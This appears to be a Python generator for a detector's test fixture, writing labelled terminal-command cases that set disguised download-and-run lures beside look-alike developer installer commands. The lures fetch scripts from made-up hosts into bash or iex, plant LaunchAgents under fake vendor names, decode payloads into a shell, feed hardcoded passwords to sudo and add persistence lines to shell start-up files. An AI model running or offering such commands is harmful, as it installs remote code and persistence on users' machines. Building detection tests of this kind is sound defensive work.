"""Writes tests/data/cases/terminal.jsonl: terminal lures whose disguise is in the command itself,
each beside the developer command it imitates.

    python tests/data/cases/make_terminal.py

Deterministic. Lure hosts and pages are made-up names; developer pages are made-up vendors.
Each line is {id, text, expect, technique, platform, source, target}. Techniques:

- `launchagent-persist`: a downloaded plist put into ~/Library/LaunchAgents or
  /Library/LaunchDaemons and loaded: `malicious` bare and from any page; loading a local
  service's plist, `brew services`, `launchctl list`: not flagged;
- `transform-to-shell`: a download reversed, rot13-ed, decrypted or hex-decoded on its way into
  the shell: `malicious` from a stranger's page and bare; a vendor's script with CRLFs stripped
  (`tr -d '\\r'`) from its own page: `info`;
- `sudo-password`: a password written into the command and piped to `sudo -S`: `malicious` with a
  download from a stranger's page; a password from a variable or typed at the prompt: not
  flagged by it;
- `verify-comment`: a download-and-run labelled as an identity / account / security check:
  `malicious`; ordinary comments after a vendor's installer on its own page: `info`;
- `process-substitution`: a download handed to a program as a file (`installer -pkg <(curl …)`,
  `osascript <(curl …)`, `bash <(curl …)`): `flagged` (from a raw IP `malicious`); a vendor's
  script that way from its own page: `info`; comparing or completing with `<(…)`: not flagged;
- `rc-persist`: a download, or a command that downloads, appended to a shell start-up file:
  `flagged`; an installer followed by adding its folder to PATH or its completion to the same
  file, from its own page: `info`;
- `export-prefix`: two settings exported in front of a download-and-run: `malicious` from a
  stranger's page; one version setting before a vendor's installer on its own page: `info`.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("terminal.jsonl")
BENIGN = "none"

STRANGER_PAGES = [
    "https://www.example-florist.com/order/confirm",
    "https://player.stream-episodes.click/watch/41",
    "https://portal.benefits-hr.top/document/2291",
    "https://blog.example-travel.net/2025/10/packing-list",
    "https://calendar-invite.meet-room.xyz/j/88121",
]
LURE_HOSTS = [
    "cdn.relay-metrics.top",
    "api.sync-telemetry.xyz",
    "files.patch-depot.click",
    "edge.asset-mirror.site",
    "dl.runtime-helper.online",
]
# (docs page, install script) of made-up vendors.
VENDORS = [
    ("https://docs.quillmark.dev/install", "https://get.quillmark.dev/install.sh"),
    ("https://www.rookery.io/docs/cli", "https://rookery.io/install.sh"),
    ("https://sprocketdb.com/docs/getting-started", "https://dl.sprocketdb.com/cli/install.sh"),
    ("https://docs.lintwell.app/", "https://lintwell.app/install.sh"),
    ("https://nightjar.tools/docs/install", "https://releases.nightjar.tools/install.sh"),
]
AGENT_NAMES = [
    "com.apple.updater",
    "com.google.keystone.agent",
    "com.system.helper",
    "com.adobe.sync",
]


def launchagent_cases() -> list[dict[str, str]]:
    out = []
    for n, host in enumerate(LURE_HOSTS, start=1):
        agent = AGENT_NAMES[n % len(AGENT_NAMES)]
        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
        lures = [
            f"curl -s https://{host}/p -o ~/Library/LaunchAgents/{agent}.plist && "
            f"launchctl load ~/Library/LaunchAgents/{agent}.plist",
            f"curl -fsSL https://{host}/agent.plist > $HOME/Library/LaunchAgents/{agent}.plist; "
            f"launchctl load -w $HOME/Library/LaunchAgents/{agent}.plist",
            f"sudo curl -so /Library/LaunchDaemons/{agent}.plist https://{host}/d && "
            f"sudo launchctl bootstrap system /Library/LaunchDaemons/{agent}.plist",
            f"wget -qO ~/Library/LaunchAgents/{agent}.plist https://{host}/l.plist; "
            f"launchctl bootstrap gui/$(id -u) ~/Library/LaunchAgents/{agent}.plist",
        ]
        for k, text in enumerate(lures, start=1):
            out += [
                case(f"t-launchagent-page-{n}-{k}", text, "malicious", "T1543.001", "macos",
                     page, "terminal"),
                case(f"t-launchagent-bare-{n}-{k}", text, "malicious", "T1543.001", "macos", "",
                     "unknown"),
            ]  # fmt: skip
    benign = [
        "launchctl load ~/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist",
        "launchctl unload -w ~/Library/LaunchAgents/com.example.backup.plist",
        "brew services start redis && launchctl list | grep redis",
        "ls -la ~/Library/LaunchAgents/ && launchctl list | grep -v com.apple",
        "launchctl bootout gui/$(id -u)/com.example.sync",
        "plutil -lint ~/Library/LaunchAgents/com.example.notes.plist",
    ]
    for n, text in enumerate(benign, start=1):
        out.append(case(f"t-launchagent-ok-{n}", text, "not_flagged", BENIGN, "macos",
                        "https://docs.example-devtools.com/macos/services", "terminal"))  # fmt: skip
    return out


def transform_cases() -> list[dict[str, str]]:
    out = []
    for n, host in enumerate(LURE_HOSTS, start=1):
        page = STRANGER_PAGES[(n + 1) % len(STRANGER_PAGES)]
        lures = [
            f"curl -s https://{host}/r2 | rev | bash",
            f"wget -qO- https://{host}/t | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
            f"curl -fsSL https://{host}/blob | openssl enc -d -aes-256-cbc -pbkdf2 -k key{n} | bash",
            f"curl -s https://{host}/h.txt | xxd -r -p | zsh",
        ]
        for k, text in enumerate(lures, start=1):
            out += [
                case(f"t-transform-page-{n}-{k}", text, "malicious", "T1140", "linux", page,
                     "terminal"),
                case(f"t-transform-bare-{n}-{k}", text, "flagged", "T1140", "linux", "",
                     "unknown"),
            ]  # fmt: skip
    for n, (page, script) in enumerate(VENDORS, start=1):
        out.append(case(f"t-transform-ok-crlf-{n}", f"curl -fsSL {script} | tr -d '\\r' | bash",
                        "info", BENIGN, "linux", page, "terminal"))  # fmt: skip
    for n, text in enumerate(
        [
            "echo 'olleh' | rev",
            "curl -s https://api.example-weather.com/v1/today | tr -d '\"' | cut -d, -f2",
            "cat notes.txt | tr 'a-z' 'A-Z' > NOTES.txt",
        ],
        start=1,
    ):
        out.append(case(f"t-transform-ok-{n}", text, "not_flagged", BENIGN, "linux",
                        "https://wiki.example-team.org/shell-tips", "terminal"))  # fmt: skip
    return out


def sudo_password_cases() -> list[dict[str, str]]:
    out = []
    for n, host in enumerate(LURE_HOSTS, start=1):
        page = STRANGER_PAGES[(n + 2) % len(STRANGER_PAGES)]
        lures = [
            f"echo 'Summer2025!' | sudo -S installer -pkg <(curl -s https://{host}/u.pkg) -target /",
            f"curl -fsSL https://{host}/fix.sh -o /tmp/fix.sh && echo 'mypass{n}' | sudo -S bash /tmp/fix.sh",
            f"printf 'Pa55word{n}\\n' | sudo -S sh -c \"$(curl -fsSL https://{host}/s)\"",
        ]  # fmt: skip
        for k, text in enumerate(lures, start=1):
            out.append(case(f"t-sudo-password-{n}-{k}", text, "malicious", "T1056", "macos", page,
                            "terminal"))  # fmt: skip
    for n, text in enumerate(
        [
            'echo "$SUDO_PASSWORD" | sudo -S apt-get update',
            "sudo -S apt-get install -y jq",
            "sudo -v && sudo apt-get upgrade -y",
        ],
        start=1,
    ):
        out.append(case(f"t-sudo-password-ok-{n}", text, "not_flagged", BENIGN, "linux",
                        "https://docs.example-ci.com/runners/linux", "terminal"))  # fmt: skip
    return out


def verify_comment_cases() -> list[dict[str, str]]:
    out = []
    labels = [
        "Account security verification",
        "GitLab identity check",
        "browser verification - step 2",
        "Device confirmation required",
        "login session validation",
    ]
    for n, host in enumerate(LURE_HOSTS, start=1):
        page = STRANGER_PAGES[(n + 3) % len(STRANGER_PAGES)]
        label = labels[n % len(labels)]
        lures = [
            (f"curl -fsSL https://{host}/v.sh | bash  # {label}", "macos"),
            (f'sh -c "$(curl -fsSL https://{host}/check)"  # {label}', "macos"),
            (f"irm https://{host}/c | iex  # {label}", "windows"),
        ]
        for k, (text, platform) in enumerate(lures, start=1):
            out.append(case(f"t-verify-comment-{n}-{k}", text, "malicious", "T1204.004", platform,
                            page, "terminal"))  # fmt: skip
    comments = [
        "installs to ~/.local/bin",
        "then restart your shell",
        "verify the checksum on the releases page first",
        "check the script before you run it",
        "needs sudo for /usr/local",
    ]
    for n, (page, script) in enumerate(VENDORS, start=1):
        out.append(case(f"t-verify-comment-ok-{n}",
                        f"curl -fsSL {script} | sh  # {comments[n % len(comments)]}", "info",
                        BENIGN, "linux", page, "terminal"))  # fmt: skip
    return out


def export_prefix_cases() -> list[dict[str, str]]:
    out = []
    for n, host in enumerate(LURE_HOSTS, start=1):
        page = STRANGER_PAGES[(n + 4) % len(STRANGER_PAGES)]
        out += [
            case(f"t-export-prefix-{n}",
                 f'export APP_ENV=prod BUILD_TAG=v{n}.0.3 && curl -fsS "https://{host}/cfg/setup.sh" | zsh',
                 "malicious", "T1036", "macos", page, "terminal"),
            case(f"t-export-prefix-semicolon-{n}",
                 f"export REGION=eu NODE_ID={n * 17}; curl -s https://{host}/n | bash",
                 "malicious", "T1036", "linux", page, "terminal"),
        ]  # fmt: skip
    for n, (page, script) in enumerate(VENDORS, start=1):
        out.append(case(f"t-export-prefix-ok-{n}",
                        f"export TOOL_VERSION=2.{n}.0 && curl -fsSL {script} | sh", "info",
                        BENIGN, "linux", page, "terminal"))  # fmt: skip
    return out


def rc_file_cases() -> list[dict[str, str]]:
    out = []
    rcs = ["~/.bashrc", "~/.zshrc", "$HOME/.profile", "~/.bash_profile", "~/.zprofile"]
    for n, host in enumerate(LURE_HOSTS, start=1):
        rc = rcs[n % len(rcs)]
        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
        lures = [
            f"echo 'curl -s https://{host}/b | bash &' >> {rc}",
            f'echo "(wget -qO- https://{host}/k | sh) >/dev/null 2>&1 &" >> {rc}',
            f"curl -fsSL https://{host}/rc.txt >> {rc} && source {rc}",
        ]
        for k, text in enumerate(lures, start=1):
            out.append(case(f"t-rc-persist-{n}-{k}", text, "flagged", "T1546.004", "linux",
                            page, "terminal"))  # fmt: skip
    for n, (page, script) in enumerate(VENDORS, start=1):
        rc = rcs[n % len(rcs)]
        out += [
            case(f"t-rc-path-ok-{n}",
                 f"curl -fsSL {script} | sh && echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> {rc}",
                 "info", BENIGN, "linux", page, "terminal"),
            case(f"t-rc-completion-ok-{n}",
                 f"curl -fsSL {script} | bash; echo 'eval \"$(tool completion zsh)\"' >> {rc}",
                 "info", BENIGN, "macos", page, "terminal"),
        ]  # fmt: skip
    return out


def process_substitution_cases() -> list[dict[str, str]]:
    out = []
    for n, host in enumerate(LURE_HOSTS, start=1):
        page = STRANGER_PAGES[(n + 1) % len(STRANGER_PAGES)]
        lures = [
            (f"sudo installer -pkg <(curl -s https://{host}/p.pkg) -target /", "flagged"),
            (f"osascript <(curl -fsSL https://{host}/a.scpt)", "malicious"),
            (f"bash <(curl -sL https://{host}/m.sh)", "flagged"),
            (f"python3 <(curl -fsSL https://{host}/i.py)", "flagged"),
        ]
        for k, (text, expect) in enumerate(lures, start=1):
            out.append(case(f"t-procsub-{n}-{k}", text, expect, "T1059.004", "macos", page,
                            "terminal"))  # fmt: skip
        out.append(case(f"t-procsub-ip-{n}",
                        f"sudo installer -pkg <(curl -s https://198.51.100.{60 + n}/p.pkg) -target /",
                        "malicious", "T1059.004", "macos", page, "terminal"))  # fmt: skip
    for n, (page, script) in enumerate(VENDORS, start=1):
        out.append(case(f"t-procsub-own-{n}", f"bash <(curl -fsSL {script})", "info", BENIGN,
                        "linux", page, "terminal"))  # fmt: skip
    for n, text in enumerate(
        [
            "diff <(curl -s https://api.example-a.com/v1/config) <(curl -s https://api.example-b.com/v1/config)",
            "source <(kubectl completion bash)",
            "comm -13 <(sort old.txt) <(sort new.txt)",
        ],
        start=1,
    ):
        out.append(case(f"t-procsub-ok-{n}", text, "not_flagged", BENIGN, "linux",
                        "https://wiki.example-team.org/shell-tips", "terminal"))  # fmt: skip
    return out


def build() -> list[dict[str, str]]:
    cases = (
        process_substitution_cases()
        + rc_file_cases()
        + launchagent_cases()
        + transform_cases()
        + sudo_password_cases()
        + verify_comment_cases()
        + export_prefix_cases()
    )
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
